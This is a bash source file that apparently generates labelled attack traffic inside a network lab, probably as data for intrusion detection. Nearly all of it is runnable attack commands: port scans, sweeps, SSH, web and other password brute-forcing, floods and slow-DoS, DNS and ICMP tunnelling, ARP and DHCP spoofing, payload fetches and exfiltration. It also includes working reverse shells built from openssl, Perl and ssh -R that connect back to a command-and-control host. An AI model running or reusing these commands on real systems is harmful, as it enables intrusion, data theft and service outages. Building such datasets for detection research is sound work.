# What the first two laboratories did not record. Sourced by ../campus.sh; `tool` and `on` are those of ../attacks.sh.
# shellcheck shell=bash disable=SC2034

ADDRESS=([bad]=203.0.113.140 [bad2]=203.0.113.141 [hop]=203.0.113.90 [desk]=192.168.90.41 [desk2]=192.168.90.42 [rogue]=192.168.90.66)
WWW=10.140.3.80 WWW6=2001:db8:c:3::80 BASTION=10.140.3.22 NAMES=10.140.3.53 STORE=10.140.3.31 API=10.140.3.81 ZONE=10.140.3.0/24 SITE=203.0.113.200
MASTER=198.51.100.77 RESOLVER=198.51.100.153 OUR=203.0.113.1 ROGUE_MAC=02:00:5e:00:0e:66
own() { on "$1" python3 "$LAB_HOME/campus/attacks.py" "${@:2}"; }
# crowd COUNT: the addresses of so many bots.
crowd() { seq -s, -f '203.0.113.%g' 161 $((160 + $1)); }
ssh_wrong=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5)

# tool NAME CLASS HOST VICTIM [ATTACKER|- [INTERFACE [LENGTH]]]; recorded outside, in the servers' zone, or among the desks.
out() { tool "$1" "$2" "$3" "$4" "${5:-}" br-out "${6:-0}"; }
lan() { tool "$1" "$2" "$3" "$4" "${5:-}" br-lan "${6:-0}"; }

out scan_source53 port-scan bad $WWW; scan_source53() { on 30 nmap -n -Pn -sS -g 53 --data-length 24 --ttl 61 --max-rate 40 --max-retries 0 -p 1-200 $WWW; }
out scan_snail port-scan bad2 $WWW; scan_snail() { on 380 nmap -n -Pn -sT --scan-delay 15s --max-retries 0 -p 21,23,25,53,110,111,135,139,143,389,445,993,1433,1723,3306,3389,5432,5900,6379,8080,8443,9200 $WWW; }
out scan_crowd port-scan bots $WWW "$(crowd 12)"; scan_crowd() { own 60 crowd_scan $WWW 12 14 0.35; }
out scan_proxy port-scan hop $BASTION; scan_proxy() {
    printf 'strict_chain\ntcp_read_time_out 2000\ntcp_connect_time_out 2000\n[ProxyList]\nsocks5 127.0.0.1 9050\n' >"$LAB_DIR/proxychains.conf"
    ns_start bad ssh -i "$LAB_DIR/user" -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -N -D 9050 root@203.0.113.90
    sleep 1; on_host bad 40 proxychains4 -q -f "$LAB_DIR/proxychains.conf" nmap -n -Pn -sT --top-ports 60 --max-rate 8 $BASTION
}
out scan_web_ports port-scan bad2 $API; scan_web_ports() { on 40 bash -c 'for p in 81 88 591 2082 2087 2095 3000 4000 4567 5000 5104 5800 7000 7001 7474 8000 8008 8014 8042 8069 8081 8083 8088 8090 8118 8123 8172 8222 8243 8280 8333 8443 8530 8834 8880 8983 9000 9043 9090; do curl -sk -m 1 -o /dev/null "http://10.140.3.81:$p/"; sleep 0.4; done'; }
out scan_udp_slow port-scan bad $STORE; scan_udp_slow() { own 100 udp_slow $STORE 200 30 3; }
out scan_xmas_hping port-scan bad2 $WWW; scan_xmas_hping() { on 30 hping3 --scan 1-300 -F -P -U $WWW; }
lan scan_lan_zone port-scan desk $BASTION; scan_lan_zone() { on 40 nmap -n -Pn -sT -T3 --max-rate 5 --max-retries 0 --top-ports 60 $BASTION; }
out scan_nat port-scan desk $SITE $OUR; scan_nat() { on 30 nmap -n -Pn -sT -T4 --max-rate 20 --top-ports 100 $SITE; }
out scan_six port-scan bad $WWW6 2001:db8:a::140; scan_six() { on 30 nmap -6 -n -Pn -sT --max-rate 12 --top-ports 100 $WWW6; }
out scan_zmap port-scan bad2 $BASTION; scan_zmap() { on 60 bash -c 'for p in 21 23 25 53 80 81 110 143 389 443 445 993 1433 3306 3389 5432 5900 6379 8080 9200 11211 27017; do zmap -q -p $p -r 10 -G 02:00:5e:00:0c:01 -c 1 -i eth0 -B 1M -o /dev/null --blacklist-file=/dev/null 10.140.3.22/32; done'; }
out scan_bursts port-scan bad $WWW; scan_bursts() { own 130 scan_bursts $WWW 5 5 22; }
out scan_and_read port-scan bad2 $WWW; scan_and_read() { on 40 bash -c 'for i in $(seq 30); do curl -s -o /dev/null -m 3 http://10.140.3.80/news.html; sleep 1; done' & on 40 nmap -n -Pn -sT --max-rate 4 --max-retries 0 --top-ports 100 $WWW; wait_for_jobs; }

out sweep_braa host-sweep bad $ZONE; sweep_braa() { on 30 braa -a 15 -r 1 -d 40000 public@10.140.3.1-10.140.3.254:.1.3.6.1.2.1.1.1.0; }
out sweep_discover host-sweep bad2 $ZONE; sweep_discover() { on 40 nmap -n -sn -PS22,443 -PE -PP --max-rate 80 $ZONE; }
out sweep_six host-sweep bad 2001:db8:c:3::/64 2001:db8:a::140; sweep_six() { own 40 sweep6 2001:db8:c:3:: 60 22; }
out sweep_snail host-sweep bad2 $ZONE; sweep_snail() { own 200 sweep 10.140.3. 40-79 5555 0.25; }
out sweep_coap host-sweep bad $ZONE; sweep_coap() { on 30 zmap -q -M udp -p 5683 --probe-args=hex:40017d700b2e77656c6c2d6b6e6f776e04636f7265 -r 40 -G 02:00:5e:00:0c:01 -c 2 -i eth0 -B 1M -o /dev/null --blacklist-file=/dev/null $ZONE; }
out sweep_ports host-sweep bad2 $ZONE; sweep_ports() { on 40 masscan --rate 120 --wait 2 -p21,22,23,80,443,3389,8080 $ZONE --interface eth0 --router-ip 203.0.113.1; }
lan sweep_lan host-sweep desk $ZONE; sweep_lan() { own 60 sweep 10.140.3. 1-120 445 3; }
out sweep_nat host-sweep desk 192.0.2.0/24 $OUR; sweep_nat() { own 60 sweep 192.0.2. 100-220 8291 4; }
out sweep_crowd host-sweep bots $ZONE "$(crowd 8)"; sweep_crowd() { own 60 crowd_sweep 10.140.3. 8 6379; }

out guess_sip brute-force bad $API; guess_sip() { on 30 svcrack -u 100 -d "$(words 60)" $API; }
out guess_rtsp brute-force bad2 $API; guess_rtsp() { (cd "$LAB_DIR" && on 30 hydra -I -t 4 -l admin -P "$(words 60)" rtsp://$API); }
out guess_mqtt brute-force bad $API; guess_mqtt() { on 40 bash -c 'while read -r w; do mosquitto_pub -h 10.140.3.81 -u sensor -P "$w" -t x -m y; sleep 0.2; done <"$0"' "$(words 50)"; }
out guess_proxy brute-force bad2 $API; guess_proxy() { on 40 bash -c 'while read -r w; do curl -s -m 4 -o /dev/null -x "http://admin:$w@10.140.3.81:3128" http://203.0.113.200/; sleep 0.2; done <"$0"' "$(words 50)"; }
out guess_socks brute-force bad $API; guess_socks() { (cd "$LAB_DIR" && on 30 hydra -I -t 4 -l admin -P "$(words 60)" socks5://$API); }
out guess_rsync brute-force bad2 $API; guess_rsync() { on 40 bash -c 'while read -r w; do RSYNC_PASSWORD="$w" rsync -q --contimeout=3 rsync://admin@10.140.3.81/backup/; sleep 0.2; done <"$0"' "$(words 50)"; }
out guess_ntlm brute-force bad $API; guess_ntlm() { on 40 bash -c 'while read -r w; do curl -s -m 4 -o /dev/null --ntlm -u "administrator:$w" -d x http://10.140.3.81:5985/wsman; sleep 0.2; done <"$0"' "$(words 50)"; }
out guess_digest brute-force bad2 $API; guess_digest() { on 40 bash -c 'while read -r w; do curl -s -m 4 -o /dev/null --digest -u "admin:$w" http://10.140.3.81/digest; sleep 0.2; done <"$0"' "$(words 50)"; }
out guess_ssh_keys brute-force bad $BASTION; guess_ssh_keys() { on 60 bash -c 'for i in $(seq 30); do ssh-keygen -q -t ed25519 -N "" -f "$0/k$i" </dev/null; ssh -i "$0/k$i" -o IdentitiesOnly=yes -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@10.140.3.22 true; done' "$LAB_DIR"; }
out guess_ssh_crowd brute-force bots $BASTION "$(crowd 12)"; guess_ssh_crowd() {
    local i
    for i in $(seq 161 172); do on 260 bash -c 'sleep $((RANDOM % 20)); for t in $(seq 8); do sshpass -p "w$0$t" ssh -b "203.0.113.$0" "${@:1}" "user$t@10.140.3.22" true; sleep $((20 + RANDOM % 10)); done' "$i" "${ssh_wrong[@]}" & done
    wait_for_jobs
}
out guess_ssh_snail brute-force bad2 $BASTION; guess_ssh_snail() { on 420 bash -c 'for t in $(seq 20); do sshpass -p "word$t" ssh "$@" admin@10.140.3.22 true; sleep 17; done' x "${ssh_wrong[@]}"; }
out guess_xmlrpc brute-force bad $API; guess_xmlrpc() { on 40 bash -c 'while read -r w; do curl -s -m 4 -o /dev/null -H "Content-Type: text/xml" -d "<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>admin</value></param><param><value>$w</value></param></params></methodCall>" http://10.140.3.81/xmlrpc.php; sleep 0.1; done <"$0"' "$(words 80)"; }
out guess_wplogin brute-force bad2 $API; guess_wplogin() { on 40 bash -c 'while read -r w; do curl -s -m 4 -o /dev/null -d "log=admin&pwd=$w&wp-submit=Log+In" http://10.140.3.81/wp-login.php; sleep 0.1; done <"$0"' "$(words 80)"; }
out guess_smbclient brute-force bad $STORE; guess_smbclient() { on 40 bash -c 'while read -r w; do smbclient -U "admin%$w" -c exit "//10.140.3.31/share"; sleep 0.2; done <"$0"' "$(words 30)"; }
out guess_rpcclient brute-force bad2 $STORE; guess_rpcclient() { on 40 bash -c 'while read -r w; do rpcclient -U "$w%Winter2026" -c getusername 10.140.3.31; sleep 0.2; done <"$0"' "$(words 30)"; }
out guess_ftps brute-force bad $STORE; guess_ftps() { on 60 bash -c 'while read -r w; do curl -sk -m 6 -o /dev/null -u "admin:$w" ftp://10.140.3.31/; done <"$0"' "$(words 15)"; }
out guess_pgsql brute-force bad2 $STORE; guess_pgsql() { on 40 patator pgsql_login host=$STORE user=postgres password=FILE0 "0=$(words 60)" -t 3; }
out guess_telnet_slow brute-force bad $STORE; guess_telnet_slow() { on 120 bash -c 'for i in $(seq 16); do (exec 3<>/dev/tcp/10.140.3.31/23; sleep 0.3; printf "admin\r\n" >&3; sleep 0.3; printf "word$i\r\n" >&3; timeout 3 head -c 60 <&3 >/dev/null); sleep 3; done'; }
lan guess_lan_ssh brute-force desk $BASTION; guess_lan_ssh() { (cd "$LAB_DIR" && on 40 hydra -I -t 3 -l root -P "$(words 40)" ssh://$BASTION); }
out guess_pop3s brute-force bad2 $STORE; guess_pop3s() { (cd "$LAB_DIR" && on 40 hydra -I -t 4 -l ann -P "$(words 50)" pop3s://$STORE); }
out guess_stuffing brute-force bots $API "$(crowd 14)"; guess_stuffing() { own 60 stuffing $API 14 6; }
out guess_imap_one brute-force bad $STORE; guess_imap_one() { own 120 imap_one $STORE 24 0.5; }

out flood_quic dos-flood bad $WWW; flood_quic() { own 15 quic_flood $WWW 900 6; }
out flood_ping6 dos-flood bad $WWW6 2001:db8:a::140; flood_ping6() { on 8 ping -6 -f -s 900 -c 6000 $WWW6; }
out flood_udp6 dos-flood bad $WWW6 2001:db8:a::140; flood_udp6() { own 15 udp6 $WWW6 1200 6; }
lan flood_dhcp_yersinia dos-flood rogue 255.255.255.255 -; flood_dhcp_yersinia() { (cd "$LAB_DIR" && sleep 5 | on 5 yersinia dhcp -attack 1 -interface eth0); }
out flood_invite dos-flood bad2 $API; flood_invite() { own 15 options_flood $API 700 7; }
out flood_crowd dos-flood bots $WWW "$(crowd 30)"; flood_crowd() { own 25 crowd_requests $WWW 30 8 9; }
out reflect_chargen dos-flood bad $WWW -; reflect_chargen() { own 15 reflected $WWW 19 500 6; }
out reflect_snmp dos-flood bad $STORE -; reflect_snmp() { own 15 reflected $STORE 161 450 6; }
out reflect_wsd dos-flood bad $BASTION -; reflect_wsd() { own 15 reflected $BASTION 3702 400 6; }
out reflect_coap dos-flood bad $API -; reflect_coap() { own 15 reflected $API 5683 500 6; }
out flood_pulses dos-flood bad $WWW; flood_pulses() { own 60 pulses $WWW 443 900 1 5 5; }
out flood_h2_ping dos-flood bad2 $WWW; flood_h2_ping() { own 15 h2_pings $WWW 8443 7; }
out flood_posts dos-flood bad $WWW; flood_posts() { own 20 posts $WWW 150000 12 8; }
out flood_torture dos-flood bots $NAMES "$(crowd 30)"; flood_torture() { own 20 dns_torture $NAMES 30 700 8; }
out flood_hang_up dos-flood bad2 $STORE; flood_hang_up() { own 20 hang_up $STORE 21 300 8; }
out flood_rst_forged dos-flood bad $WWW -; flood_rst_forged() { on 10 hping3 -q -R --rand-source -p 80 -c 7000 -i u800 $WWW; }
out flood_ack_big dos-flood bad2 $WWW; flood_ack_big() { on 10 hping3 -q -A -P -d 900 -p 443 -c 5000 -i u1000 $WWW; }

out slow_hello slow-dos bad $WWW; slow_hello() { own 50 held $WWW 443 70 40 hello; }
out slow_chunked slow-dos bad2 $WWW; slow_chunked() { own 50 held $WWW 80 60 40 chunked chunk 5; }
out slow_ssh_hold slow-dos bad $BASTION; slow_ssh_hold() { own 50 held $BASTION 22 40 40 ssh; }
out slow_ftp_hold slow-dos bad2 $STORE; slow_ftp_hold() { own 50 held $STORE 21 50 40 none; }
out slow_crowd slow-dos bots $WWW "$(crowd 15)"; slow_crowd() { own 55 held $WWW 80 75 42 head line 7 15; }
out slow_window slow-dos bad $WWW; slow_window() { own 50 h2_window $WWW 8443 30 40; }
out slow_header_six slow-dos bad $WWW6 2001:db8:a::140; slow_header_six() { (cd "$LAB_DIR" && on 45 slowhttptest -H -c 60 -r 15 -i 6 -x 10 -l 35 -p 3 -u "http://[$WWW6]/"); }

out web_jndi exploit bad $WWW; web_jndi() { own 20 jndi $WWW; }
out web_traversal web-attack bad2 $WWW; web_traversal() { own 30 traversal $WWW; }
out web_shellshock exploit bad $WWW; web_shellshock() { own 20 shellshock $WWW; }
out web_probe web-attack bad2 $WWW; web_probe() { own 40 env_probe $WWW; }
out web_probe_tls web-attack bad $WWW; web_probe_tls() { own 50 env_probe_tls $WWW; }
out web_cms web-attack bad2 $API; web_cms() { own 40 cms $API; }
out web_shell web-attack bad $API; web_shell() { own 30 web_shell $API; }
out web_xxe web-attack bad2 $API; web_xxe() { own 30 xxe $API; }
out web_templates web-attack bad $API; web_templates() { own 30 templates $API; }
out web_ids web-attack bad2 $API; web_ids() { own 40 enumerate_ids $API 160; }
out web_soft404 web-attack bad $API; web_soft404() { on 30 ffuf -s -t 4 -p 0.05 -fs 960 -u http://$API/FUZZ -w "$(paths 300)"; }
out web_slow_sqli web-attack bad2 $API; web_slow_sqli() { own 60 slow_sqli $API; }
out web_paths_slow web-attack bad $WWW; web_paths_slow() { own 110 paths_tls $WWW 70 1.2; }
out web_nmap_scripts web-attack bad2 $API; web_nmap_scripts() { on 60 nmap -n -Pn -p 80 --script http-sql-injection,http-phpmyadmin-dir-traversal,http-vuln-cve2017-5638,http-shellshock,http-wordpress-enum,http-backup-finder $API; }

lan tunnel_iodine_txt dns-tunnel desk 198.51.100.78; tunnel_iodine_txt() { ns_start master iodined -f -c -l 198.51.100.78 -P campus-tunnel 10.122.0.1 t.campus.example; sleep 1; ns_start desk iodine -f -r -T TXT -O base64 -P campus-tunnel 198.51.100.78 t.campus.example; sleep 7; on 25 ping -q -c 18 -i 0.6 -s 200 10.122.0.1 || true; }
lan tunnel_steal dns-tunnel desk $RESOLVER; tunnel_steal() { own 110 dns_steal $RESOLVER 1.5 100; }
lan tunnel_short dns-tunnel desk2 $RESOLVER; tunnel_short() { own 110 dns_steal_short $RESOLVER 0.6 90; }
lan tunnel_icmp_bulk dns-tunnel desk $MASTER; tunnel_icmp_bulk() { own 40 icmp_steal $MASTER 1200 12 20; }
lan tunnel_icmp_slow dns-tunnel desk2 $MASTER; tunnel_icmp_slow() { own 100 icmp_steal $MASTER 300 1 80; }

lan c2_irc c2-beacon desk $MASTER; c2_irc() { own 60 irc_bot $MASTER 6667 50; }
lan c2_miner malware desk2 $MASTER; c2_miner() { own 80 miner $MASTER 3333 70; }
lan c2_cookies c2-beacon desk $MASTER; c2_cookies() { own 130 cookies $MASTER 8088 6 37 120; }
lan c2_masters c2-beacon desk2 198.51.100.76/30; c2_masters() { own 130 masters 4 25 120; }
lan c2_long c2-beacon desk $MASTER; c2_long() { own 110 long_talk $MASTER 9443 6 20 100 tls; }
lan c2_long_plain c2-beacon desk2 $MASTER; c2_long_plain() { own 110 long_talk $MASTER 7070 5 30 100 plain; }
lan c2_polls c2-beacon desk $MASTER; c2_polls() { own 110 requests_in_one $MASTER 8443 5 40 100; }
lan c2_icmp c2-beacon desk2 $MASTER; c2_icmp() { own 120 icmp_beacon $MASTER 6 110; }
# From outside the desk is the gateway's address of the network it speaks to.
out c2_nat c2-beacon desk $MASTER 198.51.100.1; c2_nat() { own 110 cookies $MASTER 8088 5 20 100; }
typed_orders() { sleep 3; for c in id 'uname -a' 'ls -la /etc' 'cat /etc/hosts' 'ps aux | head -20' 'ls /usr/bin | head -30' 'df -h' 'ip address' 'cat /etc/os-release' 'ls -la /'; do echo "$c"; sleep 2.5; done; echo exit; }
# shell_from LISTENER COMMAND...: the desk connects back to the master, who types for half a minute.
shell_from() { local listener=$1; shift; typed_orders | timeout 45 ip netns exec "$LAB_NS-master" $listener >/dev/null 2>&1 & sleep 1; on 40 "$@"; wait_for_jobs; }
lan shell_openssl c2-beacon desk $MASTER; shell_openssl() { shell_from "openssl s_server -quiet -accept 4450 -key $LAB_DIR/c2.key -cert $LAB_DIR/c2.crt" bash -c 'mkfifo "$0"; sh -i <"$0" 2>&1 | openssl s_client -quiet -connect 198.51.100.77:4450 >"$0" 2>/dev/null' "$LAB_DIR/fifo"; }
lan shell_perl c2-beacon desk2 $MASTER; shell_perl() { shell_from 'nc -n -l -p 4451' perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4451,inet_aton("198.51.100.77")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'; }
lan shell_ssh_back c2-beacon desk $MASTER; shell_ssh_back() {
    ns_start desk ssh -i "$LAB_DIR/user" -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -N -R 2222:10.140.3.22:22 root@198.51.100.77
    sleep 2; typed_orders | on_host master 45 ssh -p 2222 -i "$LAB_DIR/user" -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@127.0.0.1 sh
}

lan dga_hex malware desk $RESOLVER; dga_hex() { own 60 generated $RESOLVER hex 50 0.5; }
lan dga_slow malware desk2 $RESOLVER; dga_slow() { own 180 generated $RESOLVER random 40 4; }
lan dga_short malware desk $RESOLVER; dga_short() { own 60 generated $RESOLVER short 60 0.4; }
lan worm_smb malware desk2 ''; worm_smb() { own 60 worm 445 90 3; }
lan fetch_exe malware desk $MASTER; fetch_exe() { on 20 bash -c 'curl -s -m 8 -A "Mozilla/4.0 (compatible; MSIE 8.0)" -o /dev/null http://198.51.100.77:8088/inv/7731.exe; sleep 2; curl -s -m 8 -o /dev/null http://198.51.100.77:8088/up.exe'; }
lan fetch_picture malware desk2 $MASTER; fetch_picture() { on 20 bash -c 'curl -s -m 8 -A "Mozilla/5.0" -o /dev/null http://198.51.100.77:8088/img/holiday.jpg; sleep 2; curl -s -m 8 -o /dev/null http://198.51.100.77:8088/img/2.jpg'; }
lan fetch_elf malware desk $MASTER; fetch_elf() { on 20 bash -c 'for a in x86 mips arm7; do wget -q -T 5 -O /dev/null http://198.51.100.77:8088/bins/m.$a; sleep 1; done'; }

lan leak_ftp exfiltration desk $MASTER '' 400; leak_ftp() {
    mkdir -p "$LAB_DIR/drop/up"; chmod 777 "$LAB_DIR/drop/up"; head -c 30000000 /dev/urandom >"$LAB_DIR/secret"
    printf 'listen=YES\nanonymous_enable=YES\nwrite_enable=YES\nanon_upload_enable=YES\nanon_root=%s\nsecure_chroot_dir=/run/empty\nbackground=NO\nseccomp_sandbox=NO\n' "$LAB_DIR/drop" >"$LAB_DIR/drop.conf"
    sandboxed master sh -c 'mkdir -p /run/empty && exec vsftpd "$1"' sh "$LAB_DIR/drop.conf"; sleep 1
    on 40 curl -s -m 35 -T "$LAB_DIR/secret" ftp://$MASTER/up/secret.bin
}
lan leak_scp exfiltration desk2 $MASTER '' 400; leak_scp() { head -c 30000000 /dev/urandom >"$LAB_DIR/secret"; on 40 scp -O -q -i "$LAB_DIR/user" -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "$LAB_DIR/secret" root@$MASTER:/dev/null; }
lan leak_rclone exfiltration desk $MASTER '' 400; leak_rclone() { mkdir -p "$LAB_DIR/papers"; for i in $(seq 60); do head -c 500000 /dev/urandom >"$LAB_DIR/papers/$i"; done; on 40 rclone copy "$LAB_DIR/papers" :webdav:x --webdav-url http://$MASTER:8081 --retries 1; }
lan leak_pieces exfiltration desk2 $MASTER '' 400; leak_pieces() { own 60 pieces $MASTER 8088 30 900000; }
lan leak_drip exfiltration desk $MASTER '' 400; leak_drip() { own 80 drip $MASTER 7070 400000 70; }

lan arp_claims arp-spoof rogue 192.168.90.41 $ROGUE_MAC; arp_claims() { own 20 claims eth0 192.168.90.1 192.168.90.41 12 1.3; }
lan dhcp_rogue arp-spoof rogue 255.255.255.255 $ROGUE_MAC; dhcp_rogue() { ns_start desk2 bash -c 'for i in 1 2 3 4 5; do sleep 3; timeout 4 nmap -n --script broadcast-dhcp-discover -e eth0 >/dev/null; done'; on 28 ettercap -T -q -o -i eth0 -M dhcp:192.168.90.100-110/255.255.255.0/192.168.90.66; }

out exploit_redis exploit bad $API; exploit_redis() { own 20 redis_write $API; }
out exploit_docker exploit bad2 $API; exploit_docker() { own 20 docker_start $API; }
out exploit_loader exploit bad $STORE; exploit_loader() { own 30 loader $STORE; }
out exploit_shell exploit bad2 $WWW; exploit_shell() { on_host web 40 socat TCP-LISTEN:31337,reuseaddr EXEC:/bin/sh,stderr & sleep 1; typed_orders | on 35 nc -n $WWW 31337 >/dev/null; wait_for_jobs; }
